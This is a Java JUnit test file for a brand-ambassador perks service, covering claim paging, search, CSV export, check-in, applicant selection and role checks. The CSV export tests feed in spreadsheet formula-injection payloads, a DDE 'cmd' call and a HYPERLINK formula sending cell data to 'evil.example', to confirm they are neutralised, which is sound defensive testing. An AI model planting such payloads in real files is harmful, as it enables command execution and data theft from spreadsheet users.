package app.ambassade.perks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.tuple;

import app.ambassade.audit.AuditRecord;
import app.ambassade.audit.AuditService;
import app.ambassade.engagement.EngagementAction;
import app.ambassade.engagement.EngagementService;
import app.ambassade.identity.AuthenticatedUser;
import app.ambassade.identity.Role;
import app.ambassade.notification.NotificationType;
import app.ambassade.perks.internal.PerkPulse;
import app.ambassade.perks.internal.PerkPulseRepository;
import app.ambassade.shared.validation.InvalidInputException;
import app.ambassade.support.AmbassadeTest;
import app.ambassade.support.TestData;
import app.ambassade.tenancy.TenantContext;
import app.ambassade.tenancy.TenantSummary;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.Page;
import org.springframework.data.domain.PageRequest;
import org.springframework.data.domain.Pageable;
import org.springframework.data.domain.Sort;
import org.springframework.security.access.AccessDeniedException;
import org.springframework.transaction.support.TransactionTemplate;

@AmbassadeTest
class PerkOperationsTest {

    @Autowired
    TestData data;

    @Autowired
    PerksFixtures fixtures;

    @Autowired
    PerkOperations operations;

    @Autowired
    EngagementService engagement;

    @Autowired
    AuditService audit;

    @Autowired
    PerkPulseRepository pulses;

    @Autowired
    TransactionTemplate tx;

    TenantSummary alpha;
    AuthenticatedUser manager;
    AuthenticatedUser helene;
    AuthenticatedUser marc;
    AuthenticatedUser zoe;

    @BeforeEach
    void seed() {
        PerksFixtures.Brand brand = fixtures.brand(data);
        alpha = brand.tenant();
        manager = brand.manager();
        helene = brand.helene();
        marc = brand.marc();
        zoe = brand.zoe();
    }

    @AfterEach
    void signOut() {
        TestData.signOut();
    }

    @Test
    void theClaimsGridPagesSortsAndFiltersByStatusInTheDatabase() {
        long event = fixtures.eventIn(manager, "Atelier parfum", 40, 72, false);
        Instant t0 = Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(1, ChronoUnit.DAYS);
        List<Long> members = new ArrayList<>();
        for (int i = 0; i < 33; i++) {
            AuthenticatedUser m = data.person(alpha, Role.MEMBER, "m%02d@alpha.example".formatted(i));
            members.add(m.accountId());
            ClaimStatus status =
                    i < 25 ? ClaimStatus.CONFIRMED : i < 30 ? ClaimStatus.WAITLISTED : ClaimStatus.CANCELLED;
            fixtures.claimAt(alpha.id(), event, m.accountId(), status, null, t0.plusSeconds(60L * i));
        }
        TestData.signIn(manager);

        Page<ClaimRow> first = operations.claims(event, Set.of(), "", PageRequest.of(0, 10));
        assertThat(first.getTotalElements()).isEqualTo(33);
        assertThat(first.getContent()).extracting(ClaimRow::memberId).containsExactlyElementsOf(members.subList(0, 10));
        assertThat(first.getContent().getFirst().email()).isEqualTo("m00@alpha.example");
        assertThat(operations
                        .claims(event, Set.of(), null, PageRequest.of(3, 10))
                        .getContent())
                .hasSize(3);
        assertThat(operations.countClaims(event, Set.of(), "")).isEqualTo(33);

        Page<ClaimRow> newest =
                operations.claims(event, Set.of(), "", PageRequest.of(0, 5, Sort.by(Sort.Direction.DESC, "claimedAt")));
        assertThat(newest.getContent().getFirst().memberId()).isEqualTo(members.getLast());

        Page<ClaimRow> waiting = operations.claims(event, Set.of(ClaimStatus.WAITLISTED), "", PageRequest.of(0, 50));
        assertThat(waiting.getContent()).hasSize(5).allMatch(r -> r.status() == ClaimStatus.WAITLISTED);
        assertThat(operations.countClaims(event, Set.of(ClaimStatus.WAITLISTED, ClaimStatus.CANCELLED), ""))
                .isEqualTo(8);
        assertThat(operations
                        .claims(event, Set.of(), "", PageRequest.of(0, 5, Sort.by("unknownColumn")))
                        .getContent())
                .hasSize(5);
    }

    @Test
    void aNameSearchIgnoresCaseAndAccentsAndAlsoLooksAtTheEMail() {
        long event = fixtures.eventIn(manager, "Dîner des membres", 10, 72, false);
        fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.CONFIRMED, null);
        fixtures.claim(alpha.id(), event, marc.accountId(), ClaimStatus.CONFIRMED, null);
        fixtures.claim(alpha.id(), event, zoe.accountId(), ClaimStatus.WAITLISTED, null);
        TestData.signIn(manager);
        Pageable page = PageRequest.of(0, 20);

        assertThat(operations.claims(event, Set.of(), "helene", page))
                .extracting(ClaimRow::name)
                .containsExactly("Hélène Dupont");
        assertThat(operations.claims(event, Set.of(), "LÉVY", page))
                .extracting(ClaimRow::name)
                .containsExactly("Marc Lévy");
        assertThat(operations.claims(event, Set.of(), "zoe@", page))
                .extracting(ClaimRow::name)
                .containsExactly("Zoé Martin");
        assertThat(operations.countClaims(event, Set.of(), "@alpha.example")).isEqualTo(3);
        assertThat(operations.claims(event, Set.of(ClaimStatus.CONFIRMED), "zoe", page))
                .isEmpty();
        assertThat(operations.countClaims(event, Set.of(ClaimStatus.CONFIRMED), "zoe"))
                .isZero();
        assertThat(operations.claims(event, Set.of(), "nobody-like-this", page).getTotalElements())
                .isZero();
    }

    @Test
    void theCsvExportHasAHeaderOneLinePerClaimEscapedCellsUtcDatesAndNoFormulas() throws Exception {
        AuthenticatedUser comma =
                fixtures.person(alpha, Role.MEMBER, "comma@alpha.example", "Dupont, \"Jo\"", Locale.FRENCH);
        AuthenticatedUser formula =
                fixtures.person(alpha, Role.MEMBER, "formula@alpha.example", "=cmd|' /C calc'!A0", Locale.FRENCH);
        long seats = fixtures.coCreation(manager, "Collection 2027", 3);
        Instant at = Instant.parse("2026-11-02T09:15:30Z");
        fixtures.claimAt(
                alpha.id(), seats, comma.accountId(), ClaimStatus.APPLIED, "I love it, \"really\"\nsince 2010", at);
        fixtures.claimAt(alpha.id(), seats, formula.accountId(), ClaimStatus.APPLIED, "+1 555 0100", at.plusSeconds(1));
        fixtures.claimAt(alpha.id(), seats, helene.accountId(), ClaimStatus.APPLIED, "@SUM(A1:A9)", at.plusSeconds(2));
        fixtures.claimAt(alpha.id(), seats, marc.accountId(), ClaimStatus.APPLIED, "-2 or =1+1", at.plusSeconds(3));
        TestData.signIn(manager);

        StringWriter out = new StringWriter();
        operations.exportCsv(seats, Set.of(), out);

        List<CSVRecord> records = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(out.toString()))
                .getRecords();
        assertThat(out.toString())
                .startsWith(
                        "claim_id,member_id,name,email,status,attendance,motivation,code,claimed_at,decided_at,checked_in_at");
        assertThat(records).hasSize(4);
        assertThat(records)
                .extracting(r -> r.get("name"), r -> r.get("motivation"), r -> r.get("claimed_at"))
                .containsExactly(
                        tuple("Dupont, \"Jo\"", "I love it, \"really\"\nsince 2010", "2026-11-02T09:15:30Z"),
                        tuple("'=cmd|' /C calc'!A0", "'+1 555 0100", "2026-11-02T09:15:31Z"),
                        tuple("Hélène Dupont", "'@SUM(A1:A9)", "2026-11-02T09:15:32Z"),
                        tuple("Marc Lévy", "'-2 or =1+1", "2026-11-02T09:15:33Z"));
        assertThat(records.getFirst().get("status")).isEqualTo("APPLIED");
        assertThat(records.getFirst().get("decided_at")).isEmpty();
        assertThat(audit.tenantLog(Pageable.ofSize(20)).getContent())
                .extracting(AuditRecord::action, AuditRecord::target)
                .contains(tuple("perk.claims-exported", "perk:" + seats));
    }

    @Test
    void theCsvExportNeutralisesADisplayNameASpreadsheetWouldRunAsAFormula() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click me\")";
        AuthenticatedUser member =
                fixtures.person(alpha, Role.MEMBER, "hyperlink@alpha.example", formula, Locale.FRENCH);
        long seats = fixtures.coCreation(manager, "Collection 2028", 3);
        fixtures.claimAt(
                alpha.id(),
                seats,
                member.accountId(),
                ClaimStatus.APPLIED,
                "@me",
                Instant.parse("2026-11-02T09:15:30Z"));
        TestData.signIn(manager);

        StringWriter out = new StringWriter();
        operations.exportCsv(seats, Set.of(), out);

        List<CSVRecord> records = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(out.toString()))
                .getRecords();
        assertThat(records).singleElement().satisfies(r -> {
            assertThat(r.get("name")).isEqualTo("'" + formula);
            assertThat(r.get("motivation")).isEqualTo("'@me");
        });
    }

    @Test
    void theExportOnlyHasTheChosenStatusesAndTheCodesHandedOut() throws Exception {
        long preview = fixtures.earlyAccess(manager, "Avant-première", "CODE-1", "CODE-2", "CODE-3");
        long claim = fixtures.claim(alpha.id(), preview, helene.accountId(), ClaimStatus.CONFIRMED, null);
        fixtures.assignCode(alpha.id(), preview, claim);
        fixtures.claim(alpha.id(), preview, marc.accountId(), ClaimStatus.CANCELLED, null);
        TestData.signIn(manager);

        StringWriter out = new StringWriter();
        operations.exportCsv(preview, Set.of(ClaimStatus.CONFIRMED), out);

        List<CSVRecord> records = CSVFormat.DEFAULT
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(out.toString()))
                .getRecords();
        assertThat(records)
                .extracting(r -> r.get("email"), r -> r.get("code"))
                .containsExactly(tuple("helene@alpha.example", "CODE-1"));
        assertThat(operations.claims(preview, Set.of(), "", PageRequest.of(0, 10)))
                .extracting(ClaimRow::code)
                .containsExactly("CODE-1", null);
    }

    @Test
    void figuresCountEveryStatusAttendancePlacesCodesAndPulses() {
        long event = fixtures.eventIn(manager, "Soirée", 10, 72, true);
        List<Long> confirmed = new ArrayList<>();
        for (int i = 0; i < 6; i++) {
            AuthenticatedUser m = data.person(alpha, Role.MEMBER, "f%d@alpha.example".formatted(i));
            confirmed.add(fixtures.claim(alpha.id(), event, m.accountId(), ClaimStatus.CONFIRMED, null));
        }
        fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.WAITLISTED, null);
        fixtures.claim(alpha.id(), event, marc.accountId(), ClaimStatus.WAITLISTED, null);
        fixtures.claim(alpha.id(), event, zoe.accountId(), ClaimStatus.CANCELLED, null);
        TestData.signIn(manager);

        PerkFigures before = operations.figures(event);
        assertThat(before.attendanceRate()).isNull();
        assertThat(before.averageScore()).isNull();
        assertThat(before.confirmed()).isEqualTo(6);

        confirmed.subList(0, 3).forEach(operations::checkIn);
        fixtures.recordNoShows(alpha.id(), event);
        long first = fixtures.claimRow(alpha.id(), confirmed.get(0)).getMemberId();
        long second = fixtures.claimRow(alpha.id(), confirmed.get(1)).getMemberId();
        long third = fixtures.claimRow(alpha.id(), confirmed.get(2)).getMemberId();
        TenantContext.runAs(
                alpha.id(),
                () -> tx.executeWithoutResult(s -> {
                    Instant now = Instant.now();
                    pulses.save(new PerkPulse(event, first, now)).answer(4, now);
                    pulses.save(new PerkPulse(event, second, now)).answer(5, now);
                    pulses.save(new PerkPulse(event, third, now));
                }));

        PerkFigures f = operations.figures(event);
        assertThat(f).isEqualTo(new PerkFigures(6, 2, 1, 0, 0, 0, 3, 3, 0.5, 10, 4, 0, 0, 3, 2, 4.5));

        long preview = fixtures.earlyAccess(manager, "Avant-première", "A", "B", "C", "D", "E");
        fixtures.assignCode(
                alpha.id(),
                preview,
                fixtures.claim(alpha.id(), preview, helene.accountId(), ClaimStatus.CONFIRMED, null));
        fixtures.assignCode(
                alpha.id(),
                preview,
                fixtures.claim(alpha.id(), preview, marc.accountId(), ClaimStatus.CONFIRMED, null));
        PerkFigures codes = operations.figures(preview);
        assertThat(codes.codesTotal()).isEqualTo(5);
        assertThat(codes.codesFree()).isEqualTo(3);
        assertThat(codes.capacity()).isNull();
        assertThat(codes.placesLeft()).isNull();
    }

    @Test
    void checkInMarksAConfirmedAttendeeOnceAndAddsAttendanceToTheirLedgerOnce() {
        long event = fixtures.eventIn(manager, "Masterclass", 5, 2, false);
        long claim = fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.CONFIRMED, null);
        TestData.signIn(manager);

        operations.checkIn(claim);
        operations.checkIn(claim);

        var row = fixtures.claimRow(alpha.id(), claim);
        assertThat(row.getAttendance()).isEqualTo(Attendance.ATTENDED);
        assertThat(row.getCheckedInBy()).isEqualTo(manager.accountId());
        assertThat(row.getCheckedInAt()).isNotNull();
        assertThat(attendanceEntries(helene, event)).isEqualTo(1);

        TestData.signIn(manager);
        operations.undoCheckIn(claim);
        assertThat(fixtures.claimRow(alpha.id(), claim).getAttendance()).isNull();
        assertThat(fixtures.claimRow(alpha.id(), claim).getCheckedInBy()).isNull();
        operations.checkIn(claim);
        assertThat(fixtures.claimRow(alpha.id(), claim).getAttendance()).isEqualTo(Attendance.ATTENDED);
        assertThat(attendanceEntries(helene, event)).isEqualTo(1);
    }

    @Test
    void onlyConfirmedSeatsOfAnEventCanBeCheckedIn() {
        long event = fixtures.eventIn(manager, "Masterclass", 5, 2, false);
        long waiting = fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.WAITLISTED, null);
        long cancelled = fixtures.claim(alpha.id(), event, zoe.accountId(), ClaimStatus.CANCELLED, null);
        long seats = fixtures.coCreation(manager, "Atelier", 2);
        long applied = fixtures.claim(alpha.id(), seats, marc.accountId(), ClaimStatus.APPLIED, "Me!");
        TestData.signIn(manager);

        for (long claim : new long[] {waiting, cancelled}) {
            refused(() -> operations.checkIn(claim), "claim", "perk-ops.error.not-confirmed");
        }
        assertThatThrownBy(() -> operations.checkIn(applied)).isInstanceOf(PerkNotFoundException.class);
        assertThatThrownBy(() -> operations.checkIn(999_999L)).isInstanceOf(PerkNotFoundException.class);
        assertThatThrownBy(() -> operations.checkInSearch(seats, "", 10)).isInstanceOf(PerkNotFoundException.class);
        assertThat(fixtures.claimRow(alpha.id(), waiting).getAttendance()).isNull();
        assertThat(attendanceEntries(helene, event)).isZero();
    }

    @Test
    void theCheckInSearchFindsConfirmedAttendeesByNameWithoutAccentsSortedByName() {
        long event = fixtures.eventIn(manager, "Dégustation", 10, 2, false);
        fixtures.claim(alpha.id(), event, zoe.accountId(), ClaimStatus.CONFIRMED, null);
        fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.CONFIRMED, null);
        fixtures.claim(alpha.id(), event, marc.accountId(), ClaimStatus.WAITLISTED, null);
        TestData.signIn(manager);

        assertThat(operations.checkInSearch(event, "ZOE", 10))
                .extracting(ClaimRow::name)
                .containsExactly("Zoé Martin");
        assertThat(operations.checkInSearch(event, "marc", 10)).isEmpty();
        assertThat(operations.checkInSearch(event, "", 10))
                .extracting(ClaimRow::name)
                .containsExactly("Hélène Dupont", "Zoé Martin");
        assertThat(operations.checkInSearch(event, " ", 1))
                .extracting(ClaimRow::name)
                .containsExactly("Hélène Dupont");
    }

    @Test
    void selectingApplicantsStopsAtTheNumberOfSeatsAndEachApplicantLearnsTheOutcome() {
        long seats = fixtures.coCreation(manager, "Collection 2027", 2);
        AuthenticatedUser ana = fixtures.person(alpha, Role.MEMBER, "ana@alpha.example", "Ana", Locale.ENGLISH);
        long a = fixtures.claim(alpha.id(), seats, helene.accountId(), ClaimStatus.APPLIED, "Passionate");
        long b = fixtures.claim(alpha.id(), seats, marc.accountId(), ClaimStatus.APPLIED, "Ambassador since 2020");
        long c = fixtures.claim(alpha.id(), seats, zoe.accountId(), ClaimStatus.APPLIED, "Designer");
        long d = fixtures.claim(alpha.id(), seats, ana.accountId(), ClaimStatus.APPLIED, "Curious");
        TestData.signIn(manager);

        operations.select(a, true);
        operations.select(b, true);
        refused(() -> operations.select(c, true), "selection", "perk-ops.error.seats-full");
        operations.select(d, false);
        refused(() -> operations.select(a, false), "selection", "perk-ops.error.already-decided");

        assertThat(fixtures.claimRow(alpha.id(), a).getStatus()).isEqualTo(ClaimStatus.SELECTED);
        assertThat(fixtures.claimRow(alpha.id(), c).getStatus()).isEqualTo(ClaimStatus.APPLIED);
        assertThat(fixtures.claimRow(alpha.id(), d).getStatus()).isEqualTo(ClaimStatus.NOT_SELECTED);
        assertThat(fixtures.claimRow(alpha.id(), d).getDecidedAt()).isNotNull();
        assertThat(fixtures.perk(alpha.id(), seats).getTaken()).isEqualTo(2);
        PerkFigures f = operations.figures(seats);
        assertThat(List.of(f.applied(), f.selected(), f.notSelected())).containsExactly(1L, 2L, 1L);
        assertThat(f.placesLeft()).isZero();

        assertThat(fixtures.notificationsOf(helene, NotificationType.PERK_SELECTED))
                .singleElement()
                .satisfies(n -> {
                    assertThat(n.params()).containsExactly("Collection 2027");
                    assertThat(n.target()).isEqualTo(PerkTarget.of(seats));
                });
        assertThat(fixtures.notificationsOf(marc, NotificationType.PERK_SELECTED))
                .hasSize(1);
        assertThat(fixtures.notificationsOf(ana, NotificationType.PERK_NOT_SELECTED))
                .hasSize(1);
        assertThat(fixtures.notificationsOf(zoe, NotificationType.PERK_SELECTED))
                .isEmpty();
        assertThat(fixtures.notificationsOf(zoe, NotificationType.PERK_NOT_SELECTED))
                .isEmpty();
    }

    @Test
    void thePulseIntervalDefaultsToThirtyDaysAndAcceptsOneTo365() {
        TestData.signIn(manager);
        assertThat(operations.pulseIntervalDays()).isEqualTo(30);
        for (int wrong : new int[] {0, -3, 366}) {
            refused(() -> operations.setPulseIntervalDays(wrong), "pulseInterval", "perk-ops.error.pulse-interval");
        }
        assertThat(operations.pulseIntervalDays()).isEqualTo(30);
        operations.setPulseIntervalDays(14);
        assertThat(operations.pulseIntervalDays()).isEqualTo(14);
        operations.setPulseIntervalDays(365);
        assertThat(operations.pulseIntervalDays()).isEqualTo(365);
    }

    @Test
    void membersAndAmbassadorsCannotUseTheBrandOperations() {
        long event = fixtures.eventIn(manager, "Masterclass", 5, 2, false);
        long claim = fixtures.claim(alpha.id(), event, helene.accountId(), ClaimStatus.CONFIRMED, null);
        for (AuthenticatedUser person : List.of(helene, marc)) {
            TestData.signIn(person);
            assertThatThrownBy(() -> operations.claims(event, Set.of(), "", PageRequest.of(0, 5)))
                    .isInstanceOf(AccessDeniedException.class);
            assertThatThrownBy(() -> operations.exportCsv(event, Set.of(), new StringWriter()))
                    .isInstanceOf(AccessDeniedException.class);
            assertThatThrownBy(() -> operations.checkIn(claim)).isInstanceOf(AccessDeniedException.class);
            assertThatThrownBy(() -> operations.figures(event)).isInstanceOf(AccessDeniedException.class);
            assertThatThrownBy(() -> operations.setPulseIntervalDays(3)).isInstanceOf(AccessDeniedException.class);
        }
        assertThat(fixtures.claimRow(alpha.id(), claim).getAttendance()).isNull();
    }

    private static void refused(ThrowingCallable call, String field, String key) {
        assertThatThrownBy(call)
                .isInstanceOf(InvalidInputException.class)
                .satisfies(e ->
                        assertThat(((InvalidInputException) e).fieldErrors()).containsEntry(field, key));
    }

    private long attendanceEntries(AuthenticatedUser member, long perkId) {
        TestData.signIn(member);
        return engagement.myLedger(PageRequest.of(0, 50)).stream()
                .filter(e -> e.action() == EngagementAction.ATTENDED_EVENT
                        && e.reference().equals("perk:" + perkId))
                .count();
    }
}
